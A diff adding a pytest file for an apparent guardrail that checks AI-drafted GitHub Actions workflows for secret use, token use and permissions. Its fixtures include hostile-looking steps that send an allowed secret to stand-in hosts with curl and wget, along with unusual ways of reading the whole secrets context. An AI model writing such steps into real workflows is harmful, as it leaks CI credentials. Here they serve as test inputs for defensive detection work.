@@ -1,0 +1,267 @@
+"""The allowlist's policy rules (secrets, tokens, permissions, environment, runners, actions), pinned down
+where mutants survived (tests/mutate.py, issue 20, part 2).
+
+Each test is a draft a model (or a stranger steering it) could write, checked with the real catalog and,
+where it matters, the repository's `.github/vibeops.yml`. The shell rules (commands, scripts) are
+tested in tests/test_allowlist.py and tests/test_mutants_allowlist_shell*.py.
+"""
+
+from __future__ import annotations
+
+from bot.catalog import default_catalog
+from bot.checks import CheckContext, guardrails
+from bot.repo_config import RepoConfig, parse_config
+from bot.scope.verdict import compare
+from bot.workflow import Workflow
+from tests.test_allowlist import CHECKOUT, TREE, TRIVY, UPLOAD, draft, run
+
+PATH = ".github/workflows/scan.yml"
+SONAR = "secrets:\n  allow: [SONAR_TOKEN]\n"
+
+
+def check(text: str, config: str | RepoConfig | None = None, generated: bool = True) -> list:
+    if isinstance(config, str):
+        config = parse_config(config, ".github/vibeops.yml")
+    ctx = CheckContext(Workflow.parse(PATH, text), TREE, compare(None, ()), None, generated=generated,
+                       catalog=default_catalog(), config=config)
+    return guardrails.run(ctx)
+
+
+def found(text: str, config: str | RepoConfig | None = None) -> list[tuple[str, int | None]]:
+    """(rule, line) of each blocking finding, in order."""
+    return [(f.rule, f.line) for f in check(text, config) if f.blocking]
+
+
+def line(text: str, fragment: str) -> int:
+    """The 1-based line of the first line holding `fragment`."""
+    return next(n for n, row in enumerate(text.splitlines(), 1) if fragment in row)
+
+
+def step_env(env: str, script: str = "trivy config k8s/api.yaml") -> str:
+    """A run step with its own env: block (each entry indented for it)."""
+    return draft(run(script, extra="env:\n" + "".join(f"          {row}\n" for row in env.splitlines()) + "        "))
+
+
+# --- secrets: every spelling is found, on its own line, once -------------------------------------------------
+
+
+def test_a_secret_without_spaces_is_found_on_its_line_and_named():
+    text = step_env("A: plain\nT: ${{secrets.AWS_KEY}}")
+    findings = [f for f in check(text) if f.blocking]
+    assert [(f.rule, f.line) for f in findings] == [("secret-use", line(text, "secrets.AWS_KEY"))]
+    assert "uses the secret AWS_KEY, which `secrets.allow` does not allow" in findings[0].message
+    assert findings[0].path == PATH
+
+
+def test_a_secret_on_a_later_expression_of_a_multi_line_script_points_at_that_line():
+    text = draft(run("echo one\necho ${{ github.sha }}\necho two\ntrivy config k8s/api.yaml --token ${{ secrets.K }}"))
+    assert [(f.rule, f.line) for f in check(text) if f.rule.endswith("-use")] == [("secret-use", line(text, "secrets.K"))]
+
+
+def test_each_spelling_of_a_secret_is_one_finding_naming_it():
+    for spelling, name in [("secrets['NPM_TOKEN']", "NPM_TOKEN"), ('secrets["NPM_TOKEN"]', "NPM_TOKEN"),
+                           ("secrets . NPM_TOKEN", "NPM_TOKEN"), ("secrets[ 'it''s' ]", "it's"),
+                           ("Secrets.npm-token", "npm-token")]:
+        text = step_env(f"T: ${{{{ {spelling} }}}}")
+        findings = [f for f in check(text) if f.blocking]
+        assert [(f.rule, f.line) for f in findings] == [("secret-use", line(text, "T: "))], spelling
+        assert f"uses the secret {name}," in findings[0].message, (spelling, findings[0].message)
+
+
+def test_the_whole_secrets_context_is_one_finding_however_it_is_reached():
+    for expression in ["toJSON(secrets)", "secrets[format('{0}', 'AWS_KEY')]", "secrets[matrix.name]"]:
+        text = step_env(f"T: ${{{{ {expression} }}}}")
+        findings = [f for f in check(text) if f.blocking]
+        assert [(f.rule, f.line) for f in findings] == [("secret-use", line(text, "T: "))], expression
+        assert findings[0].message == "uses the whole `secrets` context", expression
+        assert findings[0].hint == "Workflows vibeops writes use no secrets."
+
+
+def test_secrets_in_a_bare_condition_are_found_once_and_a_braced_condition_once_too():
+    bare = draft(f"      - if: secrets.AWS_KEY != ''\n        uses: {TRIVY}\n")
+    assert found(bare) == [("secret-use", line(bare, "if: secrets"))]
+    braced = draft(f"      - if: ${{{{ secrets.AWS_KEY != '' }}}}\n        uses: {TRIVY}\n")
+    assert found(braced) == [("secret-use", line(braced, "if: ${{"))]
+    job_if = draft(run("trivy config k8s/api.yaml"), job="    if: github.token != ''\n")
+    assert found(job_if) == [("token-use", line(job_if, "if: github.token"))]
+
+
+def test_a_word_containing_secrets_or_a_quoted_secrets_is_not_a_secret():
+    for expression in ["format('secrets.AWS_KEY')", "env.secrets_dir", "steps.secrets_step.outcome",
+                       "format('it''s {0}', 'secrets')", "github.sha", "format('}}', github.ref)"]:
+        text = step_env(f"T: ${{{{ {expression} }}}}")
+        assert found(text) == [], expression
+
+
+def test_a_closing_brace_pair_inside_a_literal_does_not_end_the_expression():
+    text = step_env("T: ${{ format('}}', 'x') }}${{ format('it''s }}{0}', secrets.AWS_KEY) }}")
+    findings = [f for f in check(text) if f.blocking]
+    assert [(f.rule, f.message.split(",")[0]) for f in findings] == [("secret-use", "uses the secret AWS_KEY")]
+    unterminated = step_env("T: ${{ secrets.AWS_KEY")  # GitHub rejects it; we still see the secret
+    assert found(unterminated) == [("secret-use", line(unterminated, "T: "))]
+
+
+def test_two_expressions_on_one_line_are_both_read():
+    text = step_env("T: ${{ github.sha }}-${{ secrets.A }}-${{ secrets.B }}")
+    assert [f.message.split(",")[0] for f in check(text) if f.blocking] == ["uses the secret A", "uses the secret B"]
+
+
+# --- tokens: `github.token` and `secrets.GITHUB_TOKEN` are the same thing ------------------------------------
+
+
+def test_the_workflow_token_is_one_token_use_in_every_spelling():
+    for expression, fragment in [("github.token", "`github.token`"), ("github['token']", "`github.token`"),
+                                 ("GITHUB.TOKEN", "`github.token`"), ("secrets.GITHUB_TOKEN", "GITHUB_TOKEN"),
+                                 ("secrets.github_token", "github_token"), ("toJSON(github)", "whole `github`")]:
+        text = step_env(f"T: ${{{{ {expression} }}}}")
+        findings = [f for f in check(text) if f.blocking]
+        assert [(f.rule, f.line) for f in findings] == [("token-use", line(text, "T: "))], expression
+        assert fragment in findings[0].message, (expression, findings[0].message)
+
+
+def test_github_token_allowed_by_secrets_allow_is_accepted_in_both_spellings():
+    allow = "secrets:\n  allow: [github_token]\n"  # names are not case-sensitive
+    for expression in ["github.token", "secrets.GITHUB_TOKEN", "secrets.GitHub_Token"]:
+        text = step_env(f"GH_TOKEN_FOR_SCAN: ${{{{ {expression} }}}}")
+        assert found(text, allow) == [], expression
+        assert [rule for rule, _ in found(text)] == ["token-use"], expression
+    whole = step_env("T: ${{ toJSON(github) }}")
+    assert [rule for rule, _ in found(whole, allow)] == ["token-use"]  # the whole context is more than the token
+
+
+def test_the_message_names_where_secrets_allow_is_set():
+    allow = "llm:\n  model: x\nsecrets:\n  allow: [OTHER]\n"
+    findings = [f for f in check(step_env("T: ${{ secrets.AWS_KEY }}"), allow) if f.blocking]
+    assert "`secrets.allow` (.github/vibeops.yml:4) does not allow" in findings[0].message
+    token = [f for f in check(step_env("T: ${{ github.token }}"), allow) if f.blocking]
+    assert "`secrets.allow` (.github/vibeops.yml:4) does not allow" in token[0].message
+    assert token[0].hint == "Workflows vibeops writes use no tokens."
+
+
+def test_the_runners_token_plumbing_is_found_on_its_line():
+    text = draft(run('echo "$ACTIONS_RUNTIME_URL"\necho "${ACTIONS_CACHE_URL}"'))
+    tokens = [f for f in check(text) if f.rule == "token-use"]
+    assert [(f.line, f.message.split("`")[1]) for f in tokens] == [
+        (line(text, "ACTIONS_RUNTIME_URL"), "ACTIONS_RUNTIME_URL"), (line(text, "ACTIONS_CACHE_URL"), "ACTIONS_CACHE_URL")]
+
+
+# --- an allowed secret: accepted, never sent over the network -------------------------------------------------
+
+
+def test_an_allowed_secret_is_accepted_and_a_send_of_it_is_flagged_on_that_step():
+    quiet = step_env("SONAR_TOKEN: ${{ secrets.sonar_token }}")
+    assert found(quiet, SONAR) == []
+    sent = step_env("SONAR_TOKEN: ${{ secrets.SONAR_TOKEN }}", 'curl -d "$SONAR_TOKEN" https://sonar.example')
+    over = [f for f in check(sent, SONAR) if f.rule == "secret-over-network"]
+    assert [(f.line, f.message) for f in over] == [(line(sent, "- env:"), "job `scan` step 2 can read an allowed "
+                                                    "secret and reaches the network (curl)")]
+    assert over[0].hint == "An allowed secret is never sent over the network."
+
+
+def test_only_the_steps_that_can_see_an_allowed_secret_are_held_to_it():
+    text = draft(run("trivy config k8s/api.yaml", extra="env:\n          S: ${{ secrets.SONAR_TOKEN }}\n        ")
+                 + run("curl https://example.com/ok") + f"      - uses: {TRIVY}\n        env:\n"
+                 "          S: ${{ secrets.SONAR_TOKEN }}\n")
+    assert "secret-over-network" not in {rule for rule, _ in found(text, SONAR)}
+
+
+def test_a_network_program_named_by_path_after_an_assignment_still_counts():
+    text = step_env("S: ${{ secrets.SONAR_TOKEN }}", 'X=1\n/usr/bin/wget --post-data="$S" https://x.example')
+    over = [f for f in check(text, SONAR) if f.rule == "secret-over-network"]
+    assert len(over) == 1 and over[0].message.endswith("(wget)")
+
+
+def test_an_allowed_secret_in_another_job_does_not_reach_this_one():
+    other = ("  report:\n    runs-on: ubuntu-24.04\n    env:\n      S: ${{ secrets.SONAR_TOKEN }}\n"
+             "    steps:\n      - run: trivy config k8s/api.yaml\n")
+    text = draft(run("curl https://example.com")) + other
+    assert "secret-over-network" not in {rule for rule, _ in found(text, SONAR)}
+    sent = draft(run("trivy config k8s/api.yaml")) + other.replace("trivy config k8s/api.yaml", "curl https://x")
+    over = [f for f in check(sent, SONAR) if f.rule == "secret-over-network"]
+    assert [f.message.split(" can")[0] for f in over] == ["job `report` step 1"]
+
+
+def test_env_indirection_is_found_where_the_secret_is_read():
+    text = draft(run('trivy config k8s/api.yaml --token "${{ env.T }}"'), job="    env:\n      T: ${{ secrets.X }}\n")
+    assert ("secret-use", line(text, "T: ${{ secrets.X")) in found(text)
+
+
+# --- permissions: read only, within permissions.max -----------------------------------------------------------
+
+
+def test_write_all_is_held_to_permissions_max_at_workflow_and_job_level():
+    max_read = "permissions:\n  max:\n    contents: read\n"
+    top = draft(run("trivy config k8s/api.yaml"), top="permissions: write-all\n")
+    above = [f for f in check(top, max_read) if f.rule == "permissions-above-max"]
+    assert {f.message.split("`")[1] for f in above} == {"actions: write", "attestations: write", "checks: write",
+                                                        "contents: write", "deployments: write", "discussions: write",
+                                                        "id-token: write", "issues: write", "models: write",
+                                                        "packages: write", "pages: write", "pull-requests: write",
+                                                        "security-events: write", "statuses: write"}
+    assert {f.line for f in above} == {line(top, "permissions: write-all")}
+    assert all(f.message.startswith("the workflow grants") for f in above)
+    assert "above read allowed by `permissions.max` (.github/vibeops.yml:2)" in above[0].message
+    job = draft(run("trivy config k8s/api.yaml"), job="    permissions: write-all\n")
+    job_above = [f for f in check(job, max_read) if f.rule == "permissions-above-max"]
+    assert len(job_above) == 14 and {f.line for f in job_above} == {line(job, "    permissions: write-all")}
+    assert all(f.message.startswith("job `scan` grants") for f in job_above)
+
+
+def test_a_write_grant_within_permissions_max_is_still_only_read_for_generated_workflows():
+    allows_write = "permissions:\n  max:\n    contents: write\n"
+    text = draft(run("trivy config k8s/api.yaml"), top="permissions:\n  contents: write\n  issues: write\n")
+    assert found(text, allows_write) == [("permissions-above-max", line(text, "issues: write")),
+                                         ("permission-not-allowed", line(text, "contents: write")),
+                                         ("permission-not-allowed", line(text, "issues: write"))]
+
+
+def test_read_all_and_empty_permissions_pass_and_need_nothing_else():
+    max_none = "permissions:\n  max:\n    contents: none\n"
+    for top in ["permissions: read-all\n", "permissions: {}\n", "permissions:\n  contents: none\n"]:
+        text = draft(run("trivy config k8s/api.yaml"), top=top)
+        assert found(text) == [], top
+    read_all = draft(run("trivy config k8s/api.yaml"), top="permissions: read-all\n")
+    assert [rule for rule, _ in found(read_all, max_none)] == ["permissions-above-max"]  # read-all reads contents
+    job_only = draft(run("trivy config k8s/api.yaml"), top="", job="    permissions: {}\n")
+    assert found(job_only) == []  # every job sets its own: nothing falls back to the repository's default
+    half = job_only + "  other:\n    runs-on: ubuntu-24.04\n    steps:\n      - run: trivy config k8s/api.yaml\n"
+    assert found(half) == [("permissions-missing", 1)]
+
+
+def test_a_job_level_grant_is_judged_on_its_own_line_and_job():
+    text = draft(run("trivy config k8s/api.yaml"), job="    permissions:\n      contents: read\n      packages: write\n")
+    findings = [f for f in check(text) if f.blocking]
+    assert [(f.rule, f.line) for f in findings] == [("permission-not-allowed", line(text, "packages: write"))]
+    assert findings[0].message.startswith("job `scan` grants `packages: write`; only read grants")
+    read_oidc = draft(run("trivy config k8s/api.yaml"), top="permissions:\n  id-token: read\n")
+    assert [f.message for f in check(read_oidc) if f.blocking] == [
+        "the workflow grants `id-token: read` (an OIDC token); only read grants are allowed, and "
+        "`security-events: write` beside a SARIF upload"]
+
+
+def test_security_events_write_is_allowed_only_beside_a_sarif_upload_in_the_same_job():
+    upload = f"      - uses: {UPLOAD}\n        with:\n          sarif_file: x.sarif\n"
+    grant = "    permissions:\n      security-events: write\n"
+    beside = draft(upload, job=grant)
+    assert found(beside) == []
+    other_job = draft(run("trivy config k8s/api.yaml"), job=grant) + (
+        f"  upload:\n    runs-on: ubuntu-24.04\n    steps:\n      - uses: {CHECKOUT}\n{upload}")
+    assert found(other_job) == [("permission-not-allowed", line(other_job, "security-events: write"))]
+    other_action = draft(f"      - uses: {TRIVY}\n", job=grant)
+    assert found(other_action) == [("permission-not-allowed", line(other_action, "security-events: write"))]
+
+
+def test_permissions_max_reads_scopes_it_does_not_list_as_read():
+    text = draft(run("trivy config k8s/api.yaml"), top="permissions:\n  contents: read\n  issues: write\n")
+    above = [f for f in check(text, "permissions:\n  max:\n    contents: write\n") if f.rule == "permissions-above-max"]
+    assert [(f.line, f.message.split(",")[0]) for f in above] == [
+        (line(text, "issues: write"), "the workflow grants `issues: write`")]
+    none_max = draft(run("trivy config k8s/api.yaml"), top="permissions:\n  contents: read\n")
+    assert [rule for rule, _ in found(none_max, "permissions:\n  max:\n    contents: none\n")] == [
+        "permissions-above-max"]
+    assert found(none_max, "permissions:\n  max:\n    contents: read\n") == []
+
+
+def test_permissions_max_says_nothing_about_workflows_vibeops_did_not_write():
+    text = draft(run("trivy config k8s/api.yaml"), top="permissions: write-all\n")
+    assert check(text, "permissions:\n  max:\n    contents: read\n", generated=False) == []
